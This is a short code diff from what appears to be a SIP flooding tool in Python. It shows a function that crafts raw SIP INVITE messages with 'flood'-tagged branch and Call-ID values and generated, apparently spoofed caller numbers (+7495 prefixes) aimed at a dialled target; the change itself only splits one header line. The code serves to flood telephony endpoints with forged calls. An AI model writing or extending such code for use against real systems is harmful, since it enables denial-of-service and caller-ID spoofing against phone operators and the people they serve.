@@ -25,7 +25,8 @@ def address(number: int, network: int) -> str:
 def invite(number: int, source: str, target: str, dialled: str) -> bytes:
     body = SDP.format(host=source)
     return (f"INVITE sip:{dialled}@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {source}:5060;branch=z9hG4bKflood{number}\r\n"
-            f"Max-Forwards: 70\r\nFrom: <sip:+7495{number:07d}@{source}>;tag=f{number}\r\nTo: <sip:{dialled}@{target}>\r\n"
+            f"Max-Forwards: 70\r\nFrom: <sip:+7495{number:07d}@{source}>;tag=f{number}\r\n"
+            f"To: <sip:{dialled}@{target}>\r\n"
             f"Call-ID: flood{number}@{source}\r\nCSeq: 1 INVITE\r\nContact: <sip:x@{source}:5060>\r\n"
             f"Content-Type: application/sdp\r\nContent-Length: {len(body)}\r\n\r\n{body}").encode()
 
